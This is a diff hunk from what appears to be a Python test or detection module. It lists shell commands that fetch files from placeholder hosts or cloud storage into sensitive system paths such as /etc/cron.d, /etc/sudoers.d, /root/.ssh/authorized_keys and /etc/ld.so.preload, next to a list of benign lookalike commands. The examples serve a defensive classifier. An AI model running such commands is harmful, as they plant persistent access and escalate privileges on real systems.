@@ -40,14 +40,16 @@ DESTINATIONS = (
      "vaultctl export secret/x /root/.ssh/authorized_keys", "pkgmirror-dl file:///tmp/x file:///etc/passwd",
      "aria2c -d /etc/cron.d -o sync http://h/x", "wget -P /etc/cron.d http://h/sync",
      "tar c --xform 's@.*@/etc/ld.so.preload@' -OP /tmp/.t", "gallery-dl -d /etc/profile.d https://h/x.sh",
-     "bsdfetch --output-dir /etc/sudoers.d --name x https://h/x"],
+     "bsdfetch --output-dir /etc/sudoers.d --name x https://h/x", "aws s3 cp s3://b/x /etc/cron.d/sync",
+     "az storage blob download -c c -n x -f /etc/cron.d/x", "oci os object get -bn b --name x --file /etc/cron.d/x"],
     ["cp /etc/sudoers /tmp/x", "sudo cp mylogrotate /etc/logrotate.d/myapp", "cat /etc/update-motd.d/00-header",
      "gsget /etc/sudoers /tmp/sudoers.bak", "blobfetch https://h/x ./hosts",
      "hdfs dfs -get /etc/hosts /data/hosts", "sudo install -d /etc/cron.d", "vaultctl get secret/x /etc/hosts",
      "script -q /tmp/session.txt", "make DESTDIR=/tmp/root install", "rsync -a /etc/pam.d/ /backup/pam.d/",
      "kubectl cp /etc/hosts pod:/tmp/hosts", "scp /etc/hosts user@host:/tmp/", "wget -P /tmp http://h/x",
      "git -C /etc/pam.d status", "make -C /etc/ssh", "tar c --xform 's@^@backup/@' -f b.tar /etc/ssh",
-     "aria2c -d /tmp -o sync http://h/x"])
+     "aria2c -d /tmp -o sync http://h/x", "aws s3 cp /etc/hosts s3://b/hosts", "lxc file pull c1/etc/hosts ./hosts",
+     "kubectl get pods -o yaml"])
 
 # A string of code that writes the file (a redirect, an editor's or sed's w, sqlite's .output, gdb's dump, TeX's
 # \openout, a call that opens it to write, SQL's INTO OUTFILE, a get inside a client's command), or an address
